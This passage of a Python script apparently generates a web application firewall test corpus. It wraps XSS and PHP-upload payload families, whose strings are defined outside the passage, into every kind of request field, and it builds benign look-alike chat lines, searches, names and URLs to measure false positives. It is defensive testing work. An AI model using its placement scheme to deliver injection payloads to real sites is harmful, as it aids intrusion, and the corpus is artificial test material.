    ("xss", "xss-libinjection", XSS_LIBINJECTION),
    ("xss", "xss-script-tag", XSS_SCRIPT_TAG),
    ("xss", "xss-event-handler", XSS_EVENT_HANDLER),
    ("xss", "xss-attribute-vector", XSS_ATTRIBUTE_VECTOR),
    ("xss", "xss-javascript-uri", XSS_JAVASCRIPT_URI),
    ("xss", "xss-noscript-html-injection", XSS_NOSCRIPT_HTML),
    ("xss", "xss-noscript-attribute-injection", XSS_NOSCRIPT_ATTRIBUTE),
    ("xss", "xss-node-validator-blacklist", XSS_NODE_VALIDATOR),
    ("xss", "xss-ie-style", XSS_IE_STYLE),
    ("xss", "xss-ie-vmlframe", XSS_IE_VMLFRAME),
    ("xss", "xss-ie-obfuscated-javascript", XSS_IE_OBFUSCATED_JS),
    ("xss", "xss-ie-obfuscated-vbscript", XSS_IE_OBFUSCATED_VBS),
    ("xss", "xss-ie-embed", XSS_IE_EMBED),
    ("xss", "xss-ie-import-implementation", XSS_IE_IMPORT),
    ("xss", "xss-ie-meta-http-equiv", XSS_IE_META_HTTP_EQUIV),
    ("xss", "xss-ie-meta-charset", XSS_IE_META_CHARSET),
    ("xss", "xss-ie-link-href", XSS_IE_LINK),
    ("xss", "xss-ie-base-href", XSS_IE_BASE),
    ("xss", "xss-ie-applet", XSS_IE_APPLET),
    ("xss", "xss-ie-object", XSS_IE_OBJECT),
    ("xss", "xss-ie-quote-location-assign", XSS_IE_QUOTE_LOCATION),
    ("xss", "xss-ie-quote-property-assign", XSS_IE_QUOTE_PROPERTY),
    ("xss", "xss-us-ascii-malformed", XSS_US_ASCII),
    ("xss", "xss-utf7", XSS_UTF7),
    ("xss", "xss-jsfuck", XSS_JSFUCK),
    ("xss", "xss-js-global-variable", XSS_JS_GLOBAL),
    ("xss", "xss-libinjection-pl2", XSS_LIBINJECTION_PL2),
    ("xss", "xss-disallowed-attributes", XSS_DISALLOWED_ATTRIBUTES),
    ("xss", "xss-html-tag-handler", XSS_HTML_TAG_HANDLER),
    ("xss", "xss-angularjs-csti", XSS_ANGULAR),
    ("xss", "xss-js-method", XSS_JS_METHOD),
    ("xss", "xss-function-no-parens", XSS_NO_PARENS),
]

# ---------------------------------------------------------------------------------------------------------------
# Placements
# ---------------------------------------------------------------------------------------------------------------

REAL_PLACES = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Forwarded-Host",
               "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS_PLACES = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
             "rs-header:X-Custom", "rs-cookie"]
# titles whose input is a narrower set of places
REAL_OVERRIDE = {"php-script-upload": ["multipart-filename", "header:X-Filename", "multipart-filename",
                                       "header:X-File-Name"],
                 "xss-libinjection-pl2": ["path", "header:Referer"]}
RS_OVERRIDE = {"php-script-upload": ["rs-multipart-filename", "rs-header:X_Filename", "rs-multipart-filename",
                                     "rs-header:X-Filename"],
               "xss-libinjection-pl2": ["rs-header:Referer", "rs-path"]}
LATIN1_SUBS = {"xss-us-ascii-malformed"}

REAL_NAMES = ["q", "name", "search", "redirect", "callback", "file", "bio", "title"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/cgi-bin/test.cgi", "/api/v1/items"]
RS_POST_PATHS = ["/post", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi", "/", "/search"]
BOUNDARY = "----WebKitFormBoundaryQ7x9dAst3Kp2LmZ0"
SCANNER_HEADERS = {"User-Agent": UA, "Accept": "*/*"}


def _enc(p: str, latin: bool) -> str:
    """A payload percent-encoded as a scanner puts it in a URL (single bytes for the Latin-1 title)."""
    return urllib.parse.quote(p, safe="", encoding="latin-1" if latin else "utf-8")


def _hval(p: str, latin: bool) -> str:
    """A payload as a header value: no line breaks, non-ASCII characters percent-encoded."""
    flat = p.replace("\r", " ").replace("\n", " ").replace("\x00", "")
    return "".join(ch if ord(ch) < 128 else _enc(ch, latin) for ch in flat)


def _xml(p: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><user><name>probe</name><bio><![CDATA['
            + p.replace("]]>", "]]]]><![CDATA[>") + "]]></bio></user>")


def _multipart(uri: str, name: str, value: str, filename: str | None) -> dict[str, Any]:
    """A multipart form: a payload as a field's value, or as an uploaded file's name (the file itself a GIF)."""
    if filename is None:
        part = f'Content-Disposition: form-data; name="{name}"\r\n\r\n{value}'
    else:
        flat = filename.replace("\r", " ").replace("\n", " ")
        part = (f'Content-Disposition: form-data; name="{name}"; filename="{flat}"\r\n'
                f"Content-Type: image/gif\r\n\r\nGIF89a")
    body = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\nt0k3n\r\n'
            f"--{BOUNDARY}\r\n{part}\r\n--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {**SCANNER_HEADERS, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _with_header(req: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**req, "headers": {**req["headers"], name: value}}


def _real(place: str, p: str, k: int, latin: bool) -> dict[str, Any]:
    """The payload in one of our real routes."""
    name = REAL_NAMES[k % len(REAL_NAMES)]
    if place == "query":
        return _get(f"/api/users?{name}={_enc(p, latin)}&page=1")
    if place == "form":
        body = f"csrf_token=t0k3n&{name}={_enc(p, latin)}"
        return {**_form("/admin/users/search", [("csrf_token", "t0k3n")]), "body": body}
    if place == "json":
        return _json("/api/users", {"email": "probe@example.org", name: p})
    if place == "cookie":
        return _with_header(_get("/api/users?page=1"), "Cookie", f"session=abc123; {name}={_enc(p, latin)}")
    if place.startswith("header:"):
        return _with_header(_get("/api/users?page=1"), place.split(":", 1)[1], _hval(p, latin))
    if place == "param-name":
        return _get(f"/api/users?{_enc(p, latin)}=1&page=1")
    if place == "xml":
        return {"method": "POST", "uri": "/api/users", "body": _xml(p),
                "headers": {**SCANNER_HEADERS, "Content-Type": "application/xml"}}
    if place == "multipart-field":
        return _multipart("/admin/users/import", name, p, None)
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", "avatar", "", p)
    if place == "path":
        return _get(f"/api/users/{_enc(p, latin)}")
    raise ValueError(place)


def _rs(place: str, p: str, k: int, latin: bool) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: paths that are not our routes, arbitrary names."""
    name = RS_NAMES[k % len(RS_NAMES)]
    get_path = RS_GET_PATHS[k % len(RS_GET_PATHS)]
    post_path = RS_POST_PATHS[k % len(RS_POST_PATHS)]
    plain = {"method": "GET", "uri": get_path, "body": "", "headers": dict(SCANNER_HEADERS)}
    if place == "rs-query":
        return {**plain, "uri": f"{get_path}?{name}={_enc(p, latin)}"}
    if place == "rs-form":
        return {"method": "POST", "uri": post_path, "body": f"{name}={_enc(p, latin)}",
                "headers": {**SCANNER_HEADERS, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        return {"method": "POST", "uri": post_path, "body": json.dumps({name: p}),
                "headers": {**SCANNER_HEADERS, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f'<?xml version="1.0"?><{name}><![CDATA[{p.replace("]]>", "]]]]><![CDATA[>")}]]></{name}>'
        return {"method": "POST", "uri": post_path, "body": body,
                "headers": {**SCANNER_HEADERS, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": post_path, "body": p,
                "headers": {**SCANNER_HEADERS, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-cookie":
        return _with_header(plain, "Cookie", f"{name}={_enc(p, latin)}")
    if place == "rs-header:X-Custom":
        return _with_header(plain, "X-Custom-" + name.capitalize(), _hval(p, latin))
    if place.startswith("rs-header:"):
        return _with_header(plain, place.split(":", 1)[1], _hval(p, latin))
    if place == "rs-multipart-filename":
        return _multipart("/post", "file", "", p)
    if place == "rs-path":
        return {**plain, "uri": f"/search/{_enc(p, latin)}"}
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for category, sub, payloads in SETS:
        latin = sub in LATIN1_SUBS
        real_places = REAL_OVERRIDE.get(sub, REAL_PLACES)
        rs_places = RS_OVERRIDE.get(sub, RS_PLACES)
        for i, p in enumerate(payloads):
            real_place = real_places[(k if sub not in REAL_OVERRIDE else i) % len(real_places)]
            rs_place = rs_places[(k * 5 + 3 if sub not in RS_OVERRIDE else i) % len(rs_places)]
            for place, req in ((real_place, _real(real_place, p, k, latin)), (rs_place, _rs(rs_place, p, k, latin))):
                n += 1
                yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": p}
            k += 1


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------

CHAT = [
    "anyone else's php-fpm restarting every hour since the 8.3 upgrade?",
    "the script that rotates the logs runs at 03:00, alert goes to #ops if it fails",
    "I'll write the migration script tonight and ping you for review",
    "the alert threshold is too noisy, raising it to 5 errors per minute",
    "PagerDuty alert fired at 2am for the disk on db-2, resolved by itself",
    "do we still have the onboarding document for new hires?",
    "the cookie banner text needs legal review before Friday",
    "I baked oatmeal cookies for the team, they're in the kitchen",
    "the window in meeting room 3 doesn't close properly",
    "our location in Lisbon opens next month!",
    "can you update the style guide with the new brand colours?",
    "the import from the old CRM finished, 12k contacts",
    "link to the design doc is pinned in the channel",
    "base salary bands are in the HR portal",
    "meta question: should we move standup to 9:45?",
    "the object storage bill went down after the lifecycle rule",
    "embed the dashboard in Confluence, it supports iframes now",
    "the applet on the old intranet finally got removed",
    "frame the question as a decision, not an open discussion",
    "the constructor of the Invoice class takes the currency now",
    "prototype of the new landing page is in Figma",
    "serialize the config to YAML, not pickle",
    "we eval'd three vendors and picked the cheapest",
    "the system of record for customers is still Salesforce",
    "exec offsite is in Porto this year",
    "include the Q3 numbers in the deck please",
    "requirements doc is finished, needs sign-off",
    "input validation on the signup form is done",
    "output of the nightly job is in the bucket",
    "the filter on the reports page ignores the date range, bug filed",
    "data team wants read access to the replica",
    "charset issue in the CSV export: the Excel import mangles accents",
    "the emails show as UTF-8 now, no more mojibake",
    "expression of interest sent to the venue",
    "the body of the email is empty when sent from Outlook",
    "the title field is limited to 120 characters",
    "onload the page fetches the user profile, that's why it's slow",
    "the onclick handler on the save button fires twice, fixing",
    "onboarding buddy for Maria is Tom",
    "on error we retry three times, then give up",
    "document the retry policy in the runbook please",
    "window functions in Postgres make this report trivial",
    "self-review for the performance cycle is due Monday",
    "top priority this sprint is the billing fix",
    "parent company approved the budget",
    "this is the third time the build failed on the same flaky test",
    "the JavaScript bundle is 1.2MB, we should split it",
    "VBScript macros in the finance spreadsheet need to go",
    "the AngularJS app reaches end of life, migrating to React",
    "{{name}} placeholders in the email template weren't filled",
    "the template uses {{user.first_name}}, make sure it's set",
    "php artisan migrate failed on staging, missing column",
    "composer update pulled a new guzzle, tests still green",
    "the WordPress site needs the security plugin updated",
    "the phpinfo page was removed from the old server, good",
    "the .php files in the legacy folder are not served any more",
    "our upload limit is 10MB per file, PDFs and images only",
    "config directive for the upload size is in nginx, not php.ini",
    "the session cookie is HttpOnly and Secure now",
    "register for the conference before the early-bird deadline",
    "display of the totals is off by one cent, rounding issue",
    "the error log is full of deprecation warnings",
    "the include path thing was a red herring, it was the autoloader",
    "can someone restart the sendmail relay? queue is stuck",
    "the session timeout is 30 minutes",
    "open base for the new project is the monorepo",
    "safe mode for the iPad app is when offline",
    "we stream the video via HLS, no flash",
    "input and output formats are both JSON",
    "the stdin of the container is closed, so read() returns immediately",
    "stdout and stderr are both shipped to Loki",
    "the memory limit of the pod is 512Mi",
    "temp files are cleaned up by the cron job",
    "the zip archive with the photos is on the drive",
    "glob patterns in the CI config changed in the last release",
    "expect delays on the M25 this morning",
    "the data plan for the office phones is renewed",
    "the phar file for the deploy tool is in the tools folder",
    "SSH access to the bastion is via the VPN only",
    "compress the images before uploading, they're huge",
    "shell scripts in the repo need a shebang line",
    "the call user function in the IVR menu is option 3",
    "base64 decoding the attachment shows it's just a PDF",
    "file put in the shared drive, folder 'contracts'",
    "the socket timeout is 30 seconds",
    "gzip is on for JSON responses",
    "str rot13 was the joke in the puzzle hunt, ha",
    "get defined variables from the env file, never hardcode",
    "the remote get of the price feed times out sometimes",
    "the halt compiler bug in the old toolchain is fixed",
    "reflection is heavy in the DI container, hence the slow start",
    "system call tracing showed the disk was the bottleneck",
    "passing through the lobby, anyone want coffee?",
    "exec summary: revenue up 12%, churn flat",
    "the popup asks for consent twice, please check",
    "the process open count is high on worker-3",
    "regex replace in the editor fixed all the headings",
    "create a function for the tax calculation so it's testable",
    "read the file in chunks, it's 4GB",
    "highlight the file names in the diff view",
    "array map is cleaner than the for loop here",
    "ini settings for the cron container are in the chart",
    "putting the env vars in the secrets manager",
    "getenv returns None locally, set the variable in .env",
    "symlink the config into /etc during the install",
    "chmod the script to 755 or it won't run",
    "kill the stuck process with the PID from the log",
    "parse the INI file with configparser",
    "FTP connection to the supplier is replaced by SFTP",
    "time limit for the quiz is 20 minutes",
    "the PID file is in /run",
    "the document title shows 'Untitled' in Safari",
    "the inner HTML of the card is set from markdown, sanitized",
    "the parent node of the modal is body",
    "window location changes when you click the logo",
    "the CDATA section in the feed confuses the RSS parser",
    "comments in the HTML template start with <!-- as usual",
    "the style attribute is stripped by our sanitizer",
    "vmlframe? never heard of it, is that an old IE thing?",
    "the embed code for the video is on YouTube's share menu",
    "import implementation details are in the ADR",
    "meta http-equiv refresh is how the old status page reloads",
    "the meta charset is utf-8 in all templates",
    "the link to the base image is in the Dockerfile",
    "the base href of the SPA must be /app/",
    "the applet on the bank's site needs Java, lol",
    "object storage and block storage are priced differently",
    "location of the offsite: the hotel by the river",
    "the name of the valueOf method is confusing in that API",
    "my keyboard sends ¼ and ¾ when I press AltGr, weird",
    "UTF-7 is deprecated everywhere, we only accept UTF-8",
    "JSFuck is a fun esoteric way of writing JavaScript",
    "the global variable in the old jQuery plugin leaks",
    "don't use document.write, it blocks parsing",
    "lowsrc and dynsrc are ancient IE attributes",
    "the handler for the HTML tag renderer is in markdown.py",
    "client-side templates with double curly braces are Angular's",
    "the JavaScript method for sorting is stable since ES2019",
    "functions without parentheses? you mean getters",
    "the alert dialog blocks the UI, use a toast instead",
    "confirm the meeting room booking please",
    "prompt engineering workshop is on Thursday",
    "fetch the latest main before rebasing",
    "console log spam in production, please remove",
    "the throw in the validator should be a return",
    "find the map in the wiki under Offices",
    "the sort order is by last name",
    "the call with the auditors moved to 3pm",
]

SEARCHES = [
    "php developer",
    "script writer",
    "alert manager",
    "document control",
    "cookie policy",
    "window cleaning",
    "location manager",
    "style guide",
    "import export",
    "link building",
    "base camp",
    "meta analysis",
    "object oriented",
    "embedded systems",
    "applet",
    "frame maker",
    "constructor",
    "prototype",
    "system administrator",
    "exec assistant",
    "input output",
    "filter coffee",
    "data engineer",
    "charset",
    "expression",
    "body shop",
    "title insurance",
    "onboarding",
    "event handler",
    "self storage",
    "top gun",
    "parent teacher",
    "javascript",
    "vbscript",
    "angular",
    "phpunit",
    "wordpress",
    "upload",
    "config",
    "session",
    "register",
    "display",
    "error log",
    "include",
    "sendmail",
    "safe mode",
    "stream",
    "memory",
    "temp",
    "zip code 02139",
    "glob",
    "expect",
    "phar",
    "ssh",
    "compress",
    "shell",
    "base64",
    "socket",
    "reflection",
    "passthrough",
    "popen",
    "regex replace",
    "read file",
    "array map",
    "ini",
    "putenv",
    "symlink",
    "chmod",
    "kill",
    "parse",
    "ftp",
    "time limit",
    "inner html",
    "parent node",
    "cdata",
    "vml",
    "meta charset",
    "base href",
    "object tag",
    "valueOf",
    "utf-7",
    "jsfuck",
    "global variable",
    "lowsrc",
    "html tag",
    "double curly braces",
    "javascript method",
    "alert dialog",
    "confirm",
    "prompt",
    "fetch",
    "console",
    "throw",
    "sort",
    "O'Brien",
    "D'Angelo",
    "Smith & Sons",
    "R&D",
    "C++",
    "C#",
    "Node.js",
    "ASP.NET",
    "a+b",
    "100%",
    "$100",
    "#hiring",
    "@mention",
    "first.last@example.org",
    "x = y + 1",
    "if (a < b)",
    "1/2 cup",
]

URLS = [
    "https://www.php.net/manual/en/function.shell-exec.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.list.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/link",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onload",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://developer.mozilla.org/en-US/docs/Web/CSS/@import",
    "https://angularjs.org/",
    "https://docs.angularjs.org/guide/expression",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/Vector_Markup_Language",
    "https://en.wikipedia.org/wiki/Java_applet",
    "https://wordpress.org/plugins/",
    "https://getcomposer.org/doc/",
    "https://laravel.com/docs/11.x/session",
    "https://symfony.com/doc/current/templates.html",
    "https://github.com/acme/shop/blob/main/src/Controller/UploadController.php",
    "https://github.com/acme/web/blob/main/public/index.php",
    "https://github.com/acme/web/blob/main/static/js/app.js#L120",
    "https://cdn.example.org/scripts/analytics.js?v=4.2",
    "https://example.com/style.css?v=1.0.3",
    "https://example.com/images/base.png",
    "https://example.com/meta/sitemap.xml",
    "https://shop.example.com/products/window-cleaner?ref=search",
    "https://shop.example.com/search?q=cookie+jar&sort=price",
    "https://maps.example.com/location?lat=38.72&lng=-9.14",
    "https://news.example.com/2024/05/alert-system-upgrade",
    "https://blog.example.com/posts/document-your-scripts",
    "https://jobs.example.com/php-developer-remote",
    "https://docs.example.com/api/v2/objects?filter=active&page=3",
    "https://status.example.com/",
    "https://calendar.example.com/event?id=8123&title=Frame%20review",
    "https://example.com/download/report-2024.zip",
]

PEOPLE = [
    ("Scarlett Alert", "12 Script Lane", "Alert & Co"),
    ("Evan Document", "4 Window Street", "Document Solutions Ltd"),
    ("Lydia Cookie", "88 Baker Road", "Cookie Jar Bakery"),
    ("Marcus Location", "1 Base Camp Drive", "Location Scouts Inc"),
    ("Stella Style", "9 Fashion Ave", "Style Studio"),
    ("Ivan Import", "22 Harbour Quay", "Import Export SA"),
    ("Lina Link", "5 Chain Walk", "LinkWorks"),
    ("Bastian Base", "7 Foundation Row", "Base Builders"),
    ("Meta Johansson", "14 Fjord Gata", "Meta Consulting AB"),
    ("Oliver Object", "3 Gallery Close", "Object Design"),
    ("Emma Embed", "19 Circuit Park", "Embedded Labs"),
    ("Frank Frame", "6 Picture Lane", "Frame Makers"),
    ("Connie Constructor", "41 Builder Way", "Constructor Ltd"),
    ("Petra Prototype", "2 Model Street", "Prototype Studio"),
    ("Sam System", "17 Grid Road", "System Integrators"),
    ("Exe Cutive", "1 Corner Office", "Exec Partners"),
    ("Ingrid Input", "33 Data Lane", "Input Analytics"),
    ("Fiona Filter", "8 Coffee Street", "Filter House"),
    ("Dana Data", "50 Cloud Avenue", "Data & Co"),
    ("Charles Set", "11 Unicode Way", "Charset Type Foundry"),
    ("Xavier Expression", "9 Art Lane", "Expression Gallery"),
    ("Bobby Body", "2 Garage Row", "Body Shop Motors"),
    ("Tina Title", "6 Deed Street", "Title Insurance Co"),
    ("Olaf Onload", "4 Harbour View", "Onload Logistics"),
    ("Selma Self", "21 Mirror Lane", "Self Storage Plus"),
    ("Toby Top", "3 Summit Road", "Top Tier Coaching"),
    ("Paula Parent", "12 School Street", "Parent Network"),
    ("Java Smith", "15 Coffee Hill", "Java Beans Roastery"),
    ("Angela Angular", "40 Geometry Court", "Angular Dynamics"),
    ("Phil Upload", "77 Server Street", "Upload Media"),
    ("Connie Fig", "5 Orchard Lane", "Config Gardens"),
    ("Sebastian Session", "8 Studio Road", "Session Musicians"),
    ("Regina Register", "30 Ledger Lane", "Register Accountants"),
    ("Dex Display", "2 Screen Street", "Display Signs"),
    ("Ian Include", "19 Welcome Way", "Include Everyone CIC"),
    ("Sandra Mail", "4 Post Office Lane", "Sendmail Couriers"),
    ("Steve Stream", "13 River Road", "Stream Productions"),
    ("Molly Memory", "9 Recall Street", "Memory Lane Antiques"),
    ("Tempe Rance", "6 Clock Tower", "Temp Staffing"),
    ("Zip Taylor", "101 Postal Road", "Zip Couriers"),
    ("Gloria Glob", "2 Bubble Lane", "Glob Glassworks"),
    ("Expecta Moore", "18 Future Way", "Expect More Events"),
    ("Sasha Shell", "7 Seaside Row", "Shell Beach Cafe"),
    ("Sonya Socket", "5 Plug Street", "Socket Electrics"),
    ("Reflexa Lund", "3 Lake Road", "Reflection Optics"),
    ("Popeye Nelson", "12 Dock Street", "Popen Marine"),
    ("Reid File", "8 Archive Row", "ReadFile Books"),
    ("Mapa Array", "40 Atlas Street", "Array Mapping"),
    ("Kyle Kill", "2 Mill Lane", "Kilkenny Motors"),
    ("Parker Parse", "9 Syntax Road", "Parse Translations"),
    ("Cedric Data", "14 Archive Lane", "CDATA Consulting"),
    ("Val Ueof", "21 Value Street", "ValueOf Pricing"),
    ("Lowe Src", "6 Source Road", "Lowe Sources"),
    ("Conrad Console", "3 Arcade Way", "Console Games"),
    ("Fetch Dogwalkers", "15 Park Lane", "Fetch Pet Care"),
    ("Thora Throw", "8 Pottery Row", "Throw Ceramics"),
    ("Sorcha Sort", "5 Mail Centre", "Sort Logistics"),
    ("Confirm Kofi", "10 Accra Road", "Confirmed Events"),
    ("Prompt Plumbing", "44 Pipe Street", "Prompt Plumbing Ltd"),
    ("Siobhán O'Neil", "1 Ocean Drive", "O'Neil & Daughters"),
]

NOTES = [
    "Customer asked why the export script takes so long; explained the nightly batch.",
    "Alert: card expires next month, reminder sent.",
    "Prefers the document by post, not email.",
    "Accepted cookies on the marketing site, declined analytics.",
    "Works from the Porto location on Tuesdays.",
    "Uses the high-contrast style in the dashboard.",
    "Import of their old invoices completed without errors.",
    "Sent the link to the onboarding video.",
    "Base plan, considering upgrade to Pro.",
    "Object to the late fee, waived as goodwill.",
    "Asked if the dashboard can be embedded in their intranet.",
    "Their IT still runs an applet-based VPN client.",
    "Frame contract renewed for two years.",
    "Prototype feedback: loves the new navigation.",
    "System admin contact is Raj.",
    "Exec sponsor is the CFO.",
    "Input on the roadmap: wants SSO with Okta.",
    "Filter the weekly report by region please.",
    "Data export requested under GDPR, fulfilled.",
    "Charset problem in their CSV import fixed by saving as UTF-8.",
    "Expressed interest in the annual plan.",
    "Email body arrives blank in Lotus Notes.",
    "Title changed to Head of Operations.",
    "Onload of the portal is slow from their office in Lagos.",
    "Self-serve signup, no sales contact.",
    "Top customer by revenue in EMEA.",
    "Parent account is Acme Holdings.",
    "Uses our JavaScript SDK on their storefront.",
    "Still on the AngularJS widget, migration planned.",
    "Runs WordPress with our PHP plugin.",
    "Upload of the signed contract done.",
    "Config for their SAML IdP attached.",
    "Session expired during checkout, refunded the duplicate charge.",
    "Registered for the webinar on Thursday.",
    "Display name should be 'ACME EU'.",
    "Include them in the beta for reports.",
    "Stream of support tickets after the outage, all closed.",
    "Memory of the last QBR: they want fewer emails.",
    "Temp contact while Ana is on leave: Luis.",
    "Zip code on the invoice is wrong, should be 10115.",
    "Expect a call from their procurement team.",
    "Shell company? No, verified with the registry.",
    "Reflection on the churn survey: price was the main reason.",
    "Read the file they sent; it's the old price list.",
    "Map of their offices is in the CRM.",
    "Kill switch for the promo was used on Friday.",
    "Parse errors in their webhook payload, missing comma.",
    "Time limit for the trial extended by 14 days.",
    "Inner team changes: new product owner.",
    "Parent node of the org chart is the CEO.",
    "Console access granted to two admins.",
    "Fetch of the product catalog runs hourly.",
    "Throw-in: free onboarding session.",
    "Sort their invoices by due date in the portal.",
    "Confirm the delivery address before shipping.",
    "Prompt payment discount of 2% applies.",
    "Find the VAT number on the second page.",
    "Alerted them about the maintenance window on Sunday.",
    "Their window for the migration is the first weekend of June.",
    "Said the new style of invoices is much clearer.",
]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "WordPress/6.5.4; https://blog.example.com",
    "PHP/8.3.8",
    "Java/17.0.11",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]

REFERERS = [
    "https://www.google.com/search?q=php+developer+jobs",
    "https://www.bing.com/search?q=document+management",
    "https://duckduckgo.com/?q=cookie+policy+template",
    "https://example.com/blog/2024/05/style-guide",
    "https://app.example.com/admin/users/search?q=alert",
    "https://app.example.com/settings?tab=import",
    "https://news.ycombinator.com/item?id=40000000",
    "https://www.linkedin.com/feed/",
    "https://t.co/AbCdEf1234",
    "https://docs.example.com/javascript/window-location",
    "https://wiki.example.org/Base_href",
    "https://example.com/search?q=meta+charset+utf-8",
]

COOKIES = [
    "session=abc123; theme=dark; lang=en-GB",
    "session=abc123; _ga=GA1.2.123456789.1719000000; _gid=GA1.2.987654321.1719000000",
    "session=abc123; consent=necessary%2Canalytics; tz=Europe%2FLisbon",
    "session=abc123; cart=3; currency=EUR",
    "session=abc123; last_search=window%20cleaner; view=grid",
    "session=abc123; PHPSESSID=9k2j3h4g5f6d7s8a; wp-settings-1=libraryContent%3Dbrowse",
    "session=abc123; AWSALB=zYx9WvU8tS7rQ6pO5nM4lK3jI2hG1fE0; returning=1",
    "session=abc123; style=compact; sidebar=collapsed",
    "session=abc123; location=lisbon; units=metric",
    "session=abc123; ajs_anonymous_id=%22b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e%22",
]


def _header_requests() -> Iterator[dict[str, Any]]:
    """Ordinary browsers, clients, referrers and cookies on our routes."""
    for i, ua in enumerate(BROWSER_UAS):
        yield {**_get(_query("/api/users", [("q", SEARCHES[i]), ("page", "1")])),
               "headers": {"User-Agent": ua, "Accept": "application/json"}}
    for ref in REFERERS:
        yield _with_header(_get("/api/users?page=2"), "Referer", ref)
    for cookie in COOKIES:
        yield _with_header(_get("/api/users?page=1"), "Cookie", cookie)


def _people_requests() -> Iterator[dict[str, Any]]:
    """Profiles of people and companies whose names carry the families' words, as JSON and as a form."""
    for name, address, company in PEOPLE:
        yield _json("/api/users", {"name": name, "address": address, "company": company,
                                   "email": name.split()[0].lower().replace("á", "a") + "@example.org"})
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", name), ("company", company)])


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((prose_request(s) for s in SEARCHES), f"{NAME}-prose", n, "form")
    for url in URLS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered(_people_requests(), f"{NAME}-name", n, "mixed")
    n = yield from numbered((_json("/api/users/42", {"notes": t}) for t in NOTES), f"{NAME}-note", n, "json")
    yield from numbered(_header_requests(), f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
